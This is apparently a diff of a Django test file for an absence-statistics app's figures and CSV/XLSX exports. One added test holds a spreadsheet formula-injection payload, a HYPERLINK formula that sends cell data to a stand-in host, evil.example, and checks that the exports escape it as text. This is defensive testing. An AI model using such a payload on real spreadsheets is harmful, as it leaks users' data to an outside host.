@@ -31,6 +31,9 @@ HAND = {
     "reporting_frequency": (2.95, 4.0, 1.36),
     "average_duration_days": (15.3, 61.0, 4.0),
     "zero_absence_percentage": (33.3, 2.0, 6.0),
+    # Everyone earns 3,000 a month: 98.630137 a calendar day. 61 sick days (the hours not worked)
+    # over 436 available (leave out) = 6,016.44 / 43,002.74.
+    "absence_cost_percentage": (13.99, 6016.44, 43002.74),
 }
 
 
@@ -52,7 +55,7 @@ def test_the_page_shows_the_figures_worked_out_by_hand(client, anna, bakery_q1):
     assert [(float(r[1]), float(r[3]), float(r[4])) for r in rows] == list(HAND.values())
     page = response.content.decode()
     assert "14.61" in page and "weighed by the part-time factor" in page
-    assert page.count("<svg") == 6 and 'role="img"' in page and "<title id=" in page
+    assert page.count("<svg") == 7 and 'role="img"' in page and "<title id=" in page
     for name in ("Ann", "Bob", "Cor", "Dee", "Eef", "Fay"):
         assert f">{name}<" not in page and f" {name} " not in page
 
@@ -69,7 +72,7 @@ def test_the_csv_export_carries_the_same_figures(client, anna, bakery_q1):
         EXPORT, {**q1(bakery_q1), "format": "csv", "table": "figures"}, HTTP_ACCEPT_LANGUAGE="en"
     )
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = exported_csv(response)
     assert rows[0][:5] == [
         "Figure",
         "This period",
@@ -80,11 +83,33 @@ def test_the_csv_export_carries_the_same_figures(client, anna, bakery_q1):
     assert [(float(r[1]), float(r[3]), float(r[4])) for r in rows[1:]] == list(HAND.values())
 
 
+def exported_csv(response) -> list[list[str]]:
+    """The rows of a download from core.spreadsheets: UTF-8 with a BOM, `;` between fields."""
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_a_department_named_like_a_formula_is_text_in_every_export(client, anna, bakery_q1):
+    """Formula injection: the department's name reaches the spreadsheet as text, not a formula."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    department = Department.objects.create(organisation=bakery_q1, name=evil)
+    Employee.objects.filter(organisation=bakery_q1).update(department=department)
+    client.force_login(anna)
+    query = {**q1(bakery_q1), "format": "csv", "table": "departments"}
+    names = [row[0] for row in exported_csv(client.get(EXPORT, query))[1:]]
+    assert names == ["'" + evil]
+    response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"})
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [row[0] for row in book["departments"].iter_rows(min_row=2, values_only=True)]
+    assert cells == ["'" + evil]
+    assert all(cell.data_type != "f" for row in book["departments"].iter_rows() for cell in row)
+
+
 def test_the_xlsx_export_has_a_sheet_for_every_table(client, anna, bakery_q1):
     client.force_login(anna)
     response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
-    book = load_workbook(io.BytesIO(response.content))
-    assert book.sheetnames == ["figures", "trend", "classes", "departments"]
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    assert book.sheetnames == ["figures", "sector", "trend", "classes", "departments"]
     figures = list(book["figures"].iter_rows(min_row=2, values_only=True))
     assert [(r[1], r[3], r[4]) for r in figures] == list(HAND.values())
     march = [r for r in book["trend"].iter_rows(values_only=True) if r[0] == "Mar 2026"]
@@ -120,7 +145,8 @@ def test_the_command_gives_the_same_figures(bakery_q1):
     report = json.loads(out.getvalue())
     for key, (value, numerator, denominator) in HAND.items():
         # The command gives numerator and denominator to four decimals (1.3562 employee-years).
-        assert (report[key]["value"], report[key]["numerator"]) == (value, numerator)
+        assert report[key]["value"] == value
+        assert report[key]["numerator"] == pytest.approx(numerator, abs=0.005)
         assert report[key]["denominator"] == pytest.approx(denominator, abs=0.005)
     assert report["reporting_frequency"]["denominator"] == 1.3562
     out = io.StringIO()
